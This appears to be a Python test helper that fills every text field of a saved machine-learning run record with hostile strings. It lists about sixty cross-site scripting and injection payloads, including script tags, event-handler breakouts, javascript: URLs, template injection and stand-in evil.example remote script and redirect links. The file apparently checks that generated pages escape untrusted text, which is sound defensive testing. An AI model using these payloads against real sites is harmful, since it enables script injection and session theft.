"""Strings that try to become more than text, and records that hold them everywhere."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from pages import PLAN, keep

from staged import events_of

PAYLOADS = (
    # Elements that run
    "<script>hit('s')</script>",
    "</script><script>hit('c')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<img src=x onerror=hit('i')>",
    "<svg onload=hit('v')>",
    "<svg><script>hit(2)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit(3)>",
    "<iframe srcdoc='<script>parent.hit(4)</script>'></iframe>",
    "<iframe src=javascript:hit(5)></iframe>",
    "<object data=javascript:hit(6)></object>",
    "<embed src=javascript:hit(7)>",
    "<body onload=hit(8)>",
    "<video><source onerror=hit(9)></video>",
    "<details open ontoggle=hit(10)>",
    "<input autofocus onfocus=hit(11)>",
    "<a href=javascript:hit(12)>click</a>",
    "<form action=javascript:hit(13)><button>go</button></form>",
    "<marquee onstart=hit(14)>",
    "<style>@import '//evil.example/x.css';</style>",
    # Elements that change the page
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</title><script>hit(15)</script>",
    "</textarea><script>hit(16)</script>",
    "</style><script>hit(17)</script>",
    "</noscript><script>hit(18)</script>",
    "</template><script>hit(19)</script>",
    "</main></body></html><h1>mine</h1>",
    "</td></tr></table><h1>mine</h1>",
    "<!--",
    "--><script>hit(20)</script>",
    "<![CDATA[<script>hit(21)</script>]]>",
    "<?xml version='1.0'?>",
    "<plaintext>",
    # Out of an attribute
    '" onmouseover=hit(22) x="',
    "' onfocus=hit(23) autofocus x='",
    '"><script>hit(24)</script>',
    "'><img src=x onerror=hit(25)>",
    "` onload=hit(26) `",
    " onclick=hit(27)//",
    "javascript:hit(28)",
    "data:text/html,<script>hit(29)</script>",
    # Out of a block of JSON, a template or a style
    '";hit(30);//',
    '\\";hit(31);//',
    "'-hit(32)-'",
    "${hit(33)}",
    "{{constructor.constructor('hit(34)')()}}",
    "{plan.samples}[epoch]`code`",
    "%s %(x)s {0} {} %n",
    "\u2028hit(35)\u2029",
    "]]></script><script>hit(36)//",
    "__proto__",
    # Characters
    "\u202egnp.exe\u202c<b>",
    "\x00<script>hit(37)</script>\x00",
    "\ud800<script>hit(38)</script>",
    "＜script＞hit(39)＜/script＞",
    "&lt;script&gt;hit(40)&lt;/script&gt;&#60;img src=x onerror=hit(41)&#62;",
    "A" * 5_000 + "<b>" + "\n" * 50 + "\t",
)

FIELDS = (
    "the folder's name, the data's name and digest, classes, columns, the split's rule, the "
    "model's, layers', optimizer's and loss's names, versions, machine, arguments, names of "
    "metrics, engine, backend, device, execution, the reason and rule of the stop, names of "
    "optimizers that counted, the weights' digest, layers whose updates were measured, and "
    "the target and reason of the advice on the batch size"
)
"""Where each of them is put, all at once."""


def keep_hostile(parent: Path, payload: str) -> Path:
    """Keep a small run with the payload in every field that takes a text.

    Args:
        parent: where the run's folder is made.
        payload: what is put everywhere.
    """
    folder = keep(parent / _file_name(payload), events=events_of(PLAN, updates={"adam": 80}))
    header = json.loads((folder / "run.json").read_text("utf-8"))
    kept = {"format", "began", "plan"}
    header = {
        key: value if key in kept else _fill(value, payload) for key, value in header.items()
    }
    header["data"] |= {"classes": [payload] * 3, "columns": [payload], payload: payload}
    header["split"] = {"rule": payload, "sha256": payload}
    header["model"] |= {
        "layers": [{"name": payload, "type": payload, "parameters": 3}],
        "optimizer": {"type": payload, "name": payload},
        "parameters": payload,
    }
    header["versions"] = {payload: payload}
    header["machine"] = {payload: payload}
    (folder / "run.json").write_text(json.dumps(header), "utf-8")
    rows = [json.loads(line) for line in (folder / "events.jsonl").read_text().splitlines()]
    lines = [json.dumps(_hostile_row(row, payload)) for row in rows]
    (folder / "events.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    size = {"batch_size": 64, "learning_rate": 0.001, "iteration_seconds": 0.01, "seconds": 2.0}
    advice = {
        "batch_size": 64,
        "reason": payload,
        "target": {"metric": payload, "value": 0.5},
        "table": [size],
    }
    (folder / "advice.json").write_text(json.dumps(advice), "utf-8")
    return folder


def _hostile_row(row: dict[str, Any], payload: str) -> dict[str, Any]:
    for name in ("metrics", "test"):
        if row.get(name) is not None:
            renamed = f"val_{payload}" if row["event"] == "epoch_done" else payload
            row[name] = {**row[name], payload: 0.5, renamed: 0.5}
    if "engine" in row:
        row["engine"] = dict.fromkeys(row["engine"], payload)
    if row.get("reason"):
        row["reason"] |= {"rule": payload, "sentence": payload}
    if "update_sizes" in row:
        done = row["position"]["iterations_done"]
        row["update_sizes"] = {str(done): {payload: 0.001, f"{payload} 2": 0.002}}
    if "updates" in row:
        row["updates"] = {payload: 80}
    if "weights_sha256" in row:
        row["weights_sha256"] = payload
    return row


def _fill(value: Any, payload: str) -> Any:
    """Return the same structure with every text replaced."""
    if isinstance(value, str):
        return payload
    if isinstance(value, list):
        return [_fill(item, payload) for item in value]
    if isinstance(value, dict):
        return {key: _fill(item, payload) for key, item in value.items()}
    return value


def _file_name(payload: str) -> str:
    """The payload as far as a file system takes it."""
    kept = payload.replace("/", "").replace("\x00", "").replace("\ud800", "")
    return f"run {kept[:100]}"
